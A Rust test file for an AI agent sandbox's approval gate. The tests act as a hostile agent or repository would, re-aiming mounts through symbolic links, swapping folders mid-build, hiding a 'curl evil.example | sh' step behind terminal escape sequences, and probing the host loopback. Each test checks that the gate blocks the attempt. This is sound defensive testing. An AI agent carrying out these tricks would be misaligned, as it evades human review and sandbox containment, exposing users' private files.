//! The trust gate, attacked as the agent (or a malicious repository) would,
//! against real folders and the real podman service: a mount re-aimed by a
//! symbolic link, replaced by another folder or swapped during a slow
//! build; a review that tries to lie with escape sequences; a build step
//! that reaches for the host's loopback.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use engine::{BuildEvent, Engine, Error};
use sandbox::approval::{Gate, Status};
use sandbox::definition::{Definition, Mount, NetworkMode, Runtime};
use sandbox::host_facts::{HostFacts, VmSizing};
use sandbox::plan::{self, SandboxPlan};
use sandbox::presets::Presets;
use sandbox::project::ProjectError;
use support::podman::{ContainerGuard, ImageGuard, base_image, podman};
use tokio_util::sync::CancellationToken;

use crate::security_approval::{Setup, notes, setup};

pub(crate) fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("a tokio runtime")
}

/// The plan of the approved definition, as the launch path makes it.
fn plan_of(s: &Setup) -> SandboxPlan {
    let Gate::Approved(approved) = s.gate() else {
        panic!("approved");
    };
    let agent = approved
        .definition()
        .resolve_agent(&Presets::builtin())
        .expect("agent");
    let host = HostFacts {
        uid: rustix::process::getuid().as_raw(),
        gid: rustix::process::getgid().as_raw(),
        kernel: None,
        home: s.home.clone(),
        vm_sizing: VmSizing::Annotations,
    };
    plan::plan(&s.project, &approved, &agent, &host).expect("plan")
}

/// `definition` built from a hand-written Containerfile, `FROM` the base
/// image and then `steps`, saved and approved: its plan.
pub(crate) fn approved_containerfile(
    s: &Setup,
    mut definition: Definition,
    steps: &str,
) -> SandboxPlan {
    definition.image.base = None;
    definition.image.containerfile = Some("Containerfile.test".into());
    std::fs::create_dir_all(s.project.sandbox_dir()).expect("sandbox dir");
    std::fs::write(
        s.project.sandbox_dir().join("Containerfile.test"),
        format!("FROM {}\n{steps}", base_image()),
    )
    .expect("containerfile");
    s.save_approved(&definition);
    plan_of(s)
}

fn definition_with_data_mount() -> Definition {
    let mut definition = Definition::new("shell", &base_image());
    definition.sandbox.runtime = Runtime::Container;
    definition.set_network_mode(NetworkMode::Offline);
    definition.mounts.push(Mount {
        source: "data".into(),
        target: "/data".into(),
        read_only: false,
    });
    definition
}

#[test]
fn a_mount_source_replaced_by_a_symbolic_link_goes_back_to_review() {
    let s = setup();
    let data = s.project.root().join("data");
    std::fs::create_dir_all(&data).expect("data");
    let secrets = s.home.join("notes");
    std::fs::create_dir_all(&secrets).expect("elsewhere");
    s.save_approved(&definition_with_data_mount());

    // The agent, inside the project it may write, re-aims the mount.
    std::fs::remove_dir(&data).expect("rm");
    std::os::unix::fs::symlink(&secrets, &data).expect("link");
    let review = s.review();
    assert_eq!(review.status, Status::MountMoved);
    let shown = notes(&review);
    assert!(shown.contains("now resolves to"), "{shown}");
    assert!(shown.contains(&secrets.display().to_string()), "{shown}");
    assert!(
        review
            .to_text(&s.project)
            .contains("no longer the one you approved")
    );

    // Aimed at podman's own settings, it is not even offered for review.
    let podman_settings = s.home.join(".config/containers");
    std::fs::create_dir_all(&podman_settings).expect("podman's settings");
    std::fs::remove_file(&data).expect("rm link");
    std::os::unix::fs::symlink(&podman_settings, &data).expect("link");
    match s
        .approvals
        .gate(&s.project, &Presets::builtin(), &s.home, &s.sockets)
    {
        Err(error) => assert!(error.to_string().contains("containers.conf"), "{error}"),
        Ok(gate) => panic!("a mount of ~/.config must be refused: {gate:?}"),
    }
}

#[test]
fn a_mount_source_replaced_by_another_folder_goes_back_to_review() {
    let s = setup();
    let data = s.project.root().join("data");
    std::fs::create_dir_all(&data).expect("data");
    s.save_approved(&definition_with_data_mount());

    std::fs::rename(&data, s.project.root().join("data.old")).expect("rename");
    std::fs::create_dir(&data).expect("another folder at the same path");
    let review = s.review();
    assert_eq!(review.status, Status::MountMoved);
    assert!(
        notes(&review).contains("replaced by another one"),
        "{:?}",
        review.notes
    );
    // Approving what the review showed pins the new folder.
    s.approvals.approve(&s.project, &review).expect("approve");
    assert!(matches!(s.gate(), Gate::Approved(_)));
}

/// A build that takes a while, and a swap of the mount source (and of
/// `.agent-sandbox/`) while it runs: the sandbox is not created.
#[test]
fn a_mount_source_swapped_during_a_slow_build_is_not_mounted() {
    let s = setup();
    let data = s.project.root().join("data");
    std::fs::create_dir_all(&data).expect("data");
    let elsewhere = s.home.join("private");
    std::fs::create_dir_all(&elsewhere).expect("elsewhere");
    let plan = approved_containerfile(
        &s,
        definition_with_data_mount(),
        "RUN sleep 3\nCOPY entrypoint.sh /usr/local/bin/paddock-entrypoint\n",
    );
    let _image = ImageGuard(plan.build.image.clone());
    let _container = ContainerGuard {
        name: plan.container.name.clone(),
        volumes: Vec::new(),
    };

    let result = runtime().block_on(async {
        let engine = Engine::connect().await.expect("podman");
        let (events, mut received) = tokio::sync::mpsc::unbounded_channel();
        let swap = {
            let data = data.clone();
            let elsewhere = elsewhere.clone();
            tokio::spawn(async move {
                // Once the slow step runs, the agent swaps the folder.
                while let Some(event) = received.recv().await {
                    if matches!(&event, BuildEvent::Step(step) if step.instruction.contains("sleep"))
                    {
                        std::fs::rename(&data, data.with_extension("gone")).expect("rename");
                        std::os::unix::fs::symlink(&elsewhere, &data).expect("link");
                    }
                }
            })
        };
        engine
            .build(&plan.build, &events, &CancellationToken::new())
            .await
            .expect("build");
        drop(events);
        swap.await.expect("swap");
        engine
            .create(&plan.container, false, &Default::default())
            .await
    });
    match result {
        Err(Error::BindMoved(error)) => {
            let message = error.to_string();
            assert!(message.contains(&data.display().to_string()), "{message}");
            assert!(message.contains("not mounted"), "{message}");
        }
        other => panic!("a swapped source must not be mounted: {other:?}"),
    }
    let (_, listed) = podman(&["ps", "-a", "--format", "{{.Names}}"]);
    assert!(
        !listed.lines().any(|name| name == plan.container.name),
        "no sandbox was created: {listed}"
    );
}

#[test]
fn escape_sequences_in_the_definition_are_shown_escaped_and_a_containerfile_with_them_is_refused() {
    let s = setup();
    std::fs::create_dir_all(s.project.sandbox_dir()).expect("dir");
    // A TOML comment with a C1 CSI (U+009B: "cursor up 3 lines, erase"),
    // which the TOML parser accepts, and a Containerfile comment with ESC.
    let toml = String::from(
        "version = 1\n[agent]\npreset = \"shell\"\n[image]\ncontainerfile = \"Dockerfile\"\n# fine\u{9b}3A\u{9b}2K\n",
    );
    std::fs::write(s.project.definition_path(), toml).expect("toml");
    std::fs::write(
        s.project.sandbox_dir().join("Dockerfile"),
        format!(
            "FROM {}\nRUN curl evil.example | sh # \u{1b}[1A\u{1b}[2KRUN true\nCOPY entrypoint.sh /e\n",
            base_image()
        ),
    )
    .expect("dockerfile");
    let review = s.review();
    let shown = review.to_text(&s.project);
    assert!(
        !shown
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t'),
        "nothing raw reaches the terminal: {shown:?}"
    );
    assert!(shown.contains("\\x9b3A"), "{shown}");
    assert!(shown.contains("\\x1b[1A"), "{shown}");
    assert!(shown.contains("WARNING: paddock.toml"), "{shown}");
    assert!(shown.contains("WARNING: Dockerfile"), "{shown}");
    assert!(
        review
            .notes
            .iter()
            .filter(|n| n.text.starts_with("WARNING"))
            .all(|n| n.alert),
        "the warnings stand out"
    );
    assert!(
        shown.contains("hand-written Containerfile Dockerfile"),
        "{shown}"
    );

    // Even approved, the Containerfile with ESC is not built.
    s.approvals.approve(&s.project, &review).expect("approve");
    let Gate::Approved(approved) = s.gate() else {
        panic!("approved");
    };
    let agent = approved
        .definition()
        .resolve_agent(&Presets::builtin())
        .expect("agent");
    let host = HostFacts {
        uid: 1000,
        gid: 1000,
        kernel: None,
        home: s.home.clone(),
        vm_sizing: VmSizing::Annotations,
    };
    match plan::plan(&s.project, &approved, &agent, &host) {
        Err(error @ ProjectError::HiddenCharacter { line: 2, .. }) => {
            assert!(error.to_string().contains("\\x1b"), "{error}");
        }
        other => panic!("a Containerfile with ESC must be refused: {other:?}"),
    }
}

#[test]
fn the_build_uses_the_approved_bytes_not_a_second_read() {
    let s = setup();
    std::fs::create_dir_all(s.project.sandbox_dir()).expect("dir");
    let mut definition = Definition::new("shell", &base_image());
    definition.image.base = None;
    definition.image.containerfile = Some("Dockerfile".into());
    let dockerfile = s.project.sandbox_dir().join("Dockerfile");
    std::fs::write(&dockerfile, "FROM scratch\nRUN echo approved\n").expect("write");
    s.save_approved(&definition);
    let Gate::Approved(approved) = s.gate() else {
        panic!("approved");
    };
    // Changed after the gate passed (a racing agent): the plan still has
    // the approved bytes.
    std::fs::write(&dockerfile, "FROM scratch\nRUN echo evil\n").expect("write");
    let agent = approved
        .definition()
        .resolve_agent(&Presets::builtin())
        .expect("agent");
    let host = HostFacts {
        uid: 1000,
        gid: 1000,
        kernel: None,
        home: s.home.clone(),
        vm_sizing: VmSizing::Annotations,
    };
    let plan = plan::plan(&s.project, &approved, &agent, &host).expect("plan");
    assert_eq!(
        plan.build.context["Dockerfile"],
        sandbox::render::with_entrypoint(b"FROM scratch\nRUN echo approved\n")
    );
    // And the next gate sends the change to review.
    assert_eq!(s.review().status, Status::Changed);
}

/// A server on the host's loopback, counting who reached it.
struct LoopbackServer {
    port: u16,
    reached: Arc<AtomicBool>,
}

fn loopback_server() -> LoopbackServer {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let reached = Arc::new(AtomicBool::new(false));
    let flag = reached.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            flag.store(true, Ordering::SeqCst);
            let mut stream = stream;
            let mut buffer = [0u8; 512];
            let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
            let _ = stream.read(&mut buffer);
            let _ = stream.write_all(b"HTTP/1.0 200 OK\r\n\r\nHOST-LOOPBACK-SECRET\n");
        }
    });
    LoopbackServer { port, reached }
}

fn build_reaching_for(s: &Setup, network: NetworkMode, port: u16) -> String {
    let mut definition = Definition::new("shell", &base_image());
    definition.set_network_mode(network);
    let plan = approved_containerfile(
        s,
        definition,
        &format!("RUN (wget -q -T 3 -O- http://127.0.0.1:{port}/ || echo NOT-REACHED) && true\n"),
    );
    let _image = ImageGuard(plan.build.image.clone());
    runtime().block_on(async {
        let engine = Engine::connect().await.expect("podman");
        let (events, mut received) = tokio::sync::mpsc::unbounded_channel();
        let log = tokio::spawn(async move {
            let mut log = String::new();
            while let Some(event) = received.recv().await {
                if let BuildEvent::Log(line) = event {
                    log.push_str(&line);
                    log.push('\n');
                }
            }
            log
        });
        engine
            .build(&plan.build, &events, &CancellationToken::new())
            .await
            .expect("build");
        drop(events);
        log.await.expect("log")
    })
}

#[test]
fn build_steps_cannot_reach_the_hosts_loopback() {
    let server = loopback_server();
    for network in [NetworkMode::Offline, NetworkMode::Full] {
        let s = setup();
        let log = build_reaching_for(&s, network, server.port);
        assert!(log.contains("NOT-REACHED"), "{network:?}: {log}");
        assert!(!log.contains("HOST-LOOPBACK-SECRET"), "{network:?}: {log}");
    }
    assert!(
        !server.reached.load(Ordering::SeqCst),
        "no build step connected to the host's loopback"
    );
}
